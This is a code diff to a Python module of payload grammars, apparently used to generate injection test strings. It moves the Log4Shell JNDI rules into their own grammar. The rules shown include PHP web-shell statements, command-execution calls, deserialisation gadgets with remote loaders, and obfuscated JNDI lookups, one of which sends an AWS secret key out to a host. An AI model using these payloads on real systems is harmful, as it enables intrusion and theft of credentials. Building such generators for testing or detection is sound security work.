@@ -130,7 +130,7 @@ SSRF: Grammar = {
 
 CODE: Grammar = {
     **_WORDS,
-    "start": ["<php>", "<?php <php_statement> ?>", "<?= <php_call> ?>", "<java>", "<python>", "<node>", "<ruby>", "<dotnet>", "<jndi>", "<serialised>"],
+    "start": ["<php>", "<?php <php_statement> ?>", "<?= <php_call> ?>", "<java>", "<python>", "<node>", "<ruby>", "<dotnet>", "<serialised>"],
     "php": ["<php_statement>", "${@<php_call>}", "'.<php_call>.'", "\";<php_statement>//", "');<php_statement>//", "{${<php_call>}}", "<word>;<php_statement>", "']);<php_statement>/*", "${<php_call>}", "1);<php_statement>"],
     "php_statement": ["<php_call>;", "eval($_POST['x']);", "@eval($_REQUEST[1]);", "echo <php_call>;", "print(<php_call>);", "die(<php_call>);", "$_=<php_call>;", "include $_GET['f'];", "assert($_POST['a']);"],
     "php_call": ["phpinfo()", "system('id')", "passthru('ls')", "shell_exec('whoami')", "exec('id')", "file_get_contents('<file>')", "base64_decode('aWQ=')", "md5(<n>)", "print_r(scandir('/'))", "call_user_func('system','id')", "create_function('','x')", "highlight_file('<file>')", "var_dump(<n>)",
@@ -142,10 +142,15 @@ CODE: Grammar = {
              '{"__proto__":{"admin":true}}', "__proto__[admin]=1", "constructor[prototype][x]=1", "constructor.prototype.x"],
     "ruby": ["system('id')", "`id`", "%x(id)", "Kernel.exec('id')", "IO.popen('id').read", "File.read('<file>')", "eval('x')", "open('|id')", "--- !ruby/object:Gem::Installer\ni: x", "--- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection"],
     "dotnet": ["System.Diagnostics.Process.Start(\"cmd.exe\",\"/c id\")", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd\"); %>", "<% Response.Write(CreateObject(\"WScript.Shell\").Exec(\"cmd /c id\").StdOut.ReadAll()) %>", "eval request(\"x\")", "System.IO.File.ReadAllText(\"<file>\")"],
-    "jndi": ["${jndi:<jscheme>://<host>/a}", "${${lower:j}ndi:<jscheme>://<host>/a}", "${${::-j}${::-n}${::-d}${::-i}:<jscheme>://<host>/a}", "${jndi:<jscheme>://${env:AWS_SECRET_ACCESS_KEY}.<host>/}", "${jndi:${lower:l}${lower:d}ap://<host>/a}", "${${env:X:-j}ndi${env:X:-:}<jscheme>://<host>/}", "${sys:java.version}", "${env:PATH}", "${jnd${upper:ı}:<jscheme>://<host>/a}", "${j${k8s:k5:-ND}i:<jscheme>://<host>/}", "${${date:'j'}${date:'n'}di:dns://<host>}"],
-    "jscheme": ["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"],
     "serialised": ["O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "a:1:{i:0;O:9:\"Exception\":0:{}}", "O:+4:\"Evil\":1:{s:4:\"file\";s:5:\"x.php\";}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAABYXQAAWJ4", "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", "cos\nsystem\n(S'id'\ntR.", "c__builtin__\neval\n(S'x'\ntR.", "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://<host>/a\",\"autoCommit\":true}", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
                    "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\"}", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://<host>/a\"}]", "O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}", "<java><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></object></java>", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://<host>/\"]]]]"],
+}  # fmt: skip
+
+JNDI: Grammar = {
+    **_WORDS,
+    "start": ["<jndi>", "<word> <jndi>", "<jndi><word>"],
+    "jndi": ["${jndi:<jscheme>://<host>/a}", "${${lower:j}ndi:<jscheme>://<host>/a}", "${${::-j}${::-n}${::-d}${::-i}:<jscheme>://<host>/a}", "${jndi:<jscheme>://${env:AWS_SECRET_ACCESS_KEY}.<host>/}", "${jndi:${lower:l}${lower:d}ap://<host>/a}", "${${env:X:-j}ndi${env:X:-:}<jscheme>://<host>/}", "${sys:java.version}", "${env:PATH}", "${jnd${upper:ı}:<jscheme>://<host>/a}", "${j${k8s:k5:-ND}i:<jscheme>://<host>/}", "${${date:'j'}${date:'n'}di:dns://<host>}"],
+    "jscheme": ["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"],
 }  # fmt: skip
 
 HTTP: Grammar = {
@@ -163,6 +168,6 @@ HTTP: Grammar = {
 
 GRAMMARS: dict[str, tuple[str, Grammar]] = {
     "shell": ("rce", SHELL), "template": ("ssti", TEMPLATE), "nosql": ("nosqli", NOSQL), "nosql-names": ("nosqli", NOSQL_NAMES), "ldap": ("ldapi", LDAP),
-    "xpath": ("xpath", XPATH), "xxe": ("xxe", XXE), "ssrf": ("ssrf", SSRF), "code": ("code", CODE), "http": ("crlf", HTTP),
+    "xpath": ("xpath", XPATH), "xxe": ("xxe", XXE), "ssrf": ("ssrf", SSRF), "code": ("code", CODE), "http": ("crlf", HTTP), "jndi": ("log4shell", JNDI),
 }  # fmt: skip
 """Grammars by name, with the class of attack they are of."""
